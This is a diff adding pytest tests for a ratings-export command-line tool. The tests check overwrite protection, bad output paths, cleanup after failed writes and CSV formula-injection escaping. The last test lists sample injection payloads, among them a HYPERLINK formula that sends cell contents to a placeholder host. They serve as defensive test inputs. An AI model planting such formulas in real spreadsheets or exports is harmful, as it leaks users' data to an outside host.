@@ -106,3 +106,72 @@ def test_comparisons_study_and_dpo(filled, tmp_path):
 def test_missing_database_is_a_clear_error(tmp_path):
     r = _cli("--db", f"sqlite:///{tmp_path / 'nope.db'}", "--what", "ratings", "--out", str(tmp_path / "x.csv"))
     assert r.returncode == 2 and "No database" in r.stderr and not (tmp_path / "nope.db").exists()
+
+
+def test_existing_out_needs_force_and_the_database_is_never_overwritten(filled, tmp_path):
+    url, _, _ = filled
+    db = Path(url.removeprefix("sqlite:///"))
+    before = db.read_bytes()
+    out = tmp_path / "r.csv"
+    out.write_text("keep me")
+    r = _cli("--db", url, "--what", "ratings", "--out", str(out))
+    assert r.returncode == 2 and "already exists" in r.stderr and "--force" in r.stderr
+    assert out.read_text() == "keep me"
+    assert _cli("--db", url, "--what", "ratings", "--out", str(out), "--force").returncode == 0
+    assert out.read_text().startswith("id,") and out.stat().st_mode & 0o777 == 0o600
+    for force in ([], ["--force"]):
+        r = _cli("--db", url, "--what", "ratings", "--out", str(db), *force)
+        assert r.returncode == 2 and "database itself" in r.stderr
+    assert db.read_bytes() == before
+    r = _cli("--db", url, "--what", "ratings", "--out", f"{db}-wal", "--force")
+    assert r.returncode == 2 and "database itself" in r.stderr
+
+
+@pytest.mark.parametrize("out,message", [("", "--out is empty"), ("DIR/", "is a folder"), ("DIR", "is a folder"),
+                                         ("missing/x.csv", "does not exist")])
+def test_bad_out_paths_are_clear_messages(filled, tmp_path, out, message):
+    url, _, _ = filled
+    (tmp_path / "DIR").mkdir()
+    r = _cli("--db", url, "--what", "ratings", "--out", str(tmp_path / out) + ("/" if out.endswith("/") else "")
+             if out else "")
+    assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["DIR"] and not list((tmp_path / "DIR").iterdir())
+
+
+def test_a_failed_export_leaves_no_part_file(tmp_path):
+    from asclepius_ui.export import write_rows
+
+    with pytest.raises(OSError, match="disk full"):
+        write_rows(_Exploding(), ["a"], "csv", tmp_path / "x.csv", progress=False)
+    assert list(tmp_path.iterdir()) == []
+
+
+class _Exploding(list):
+    """Rows that fail half-way through, as a database read can."""
+
+    def __iter__(self):
+        yield {"a": "1"}
+        raise OSError("disk full")
+
+    def __len__(self):
+        return 2
+
+
+def test_csv_cells_never_start_a_formula_and_jsonl_keeps_the_text(tmp_path):
+    url = f"sqlite:///{tmp_path / 'f.db'}"
+    st = open_storage(url)
+    evil = ["=HYPERLINK(\"http://x.test/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "plain", "- list"]
+    for i, text in enumerate(evil):
+        st.save_rating(snapshot=dict(note=text, instruction=text, answer=text, prompt=text, model_id=text),
+                       score=1 + i % 4, rater="r", uid=new_uid(), comment=text)
+    st.close()
+    out_csv, out_jsonl = tmp_path / "r.csv", tmp_path / "r.jsonl"
+    assert _cli("--db", url, "--what", "ratings", "--out", str(out_csv)).returncode == 0
+    assert _cli("--db", url, "--what", "ratings", "--format", "jsonl", "--out", str(out_jsonl)).returncode == 0
+    rows = list(csv.DictReader(out_csv.open(newline="", encoding="utf-8")))
+    for row, text in zip(rows, evil, strict=True):
+        for col in ("comment", "note", "question", "answer", "model"):
+            assert row[col] == (text if text[0] not in "=+-@\t\r" else "'" + text)
+        assert row["score"].isdigit()
+    jrows = [json.loads(x) for x in out_jsonl.read_text(encoding="utf-8").splitlines()]
+    assert [r["comment"] for r in jrows] == evil
